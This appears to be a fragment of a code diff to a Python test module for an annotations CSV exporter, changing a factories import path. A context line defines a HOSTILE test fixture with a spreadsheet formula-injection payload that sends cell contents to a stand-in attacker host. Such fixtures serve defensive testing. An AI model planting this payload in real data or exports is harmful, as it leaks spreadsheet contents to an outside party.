@@ -12,7 +12,7 @@ import pytest
 from annotations.audit import audit_log_lines
 from annotations.exports import csv as csv_format
 
-from .factories import AnnotationFactory, ClaimFactory, SourceFactory
+from .support.factories import AnnotationFactory, ClaimFactory, SourceFactory
 
 HOSTILE = {
     "speaker": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
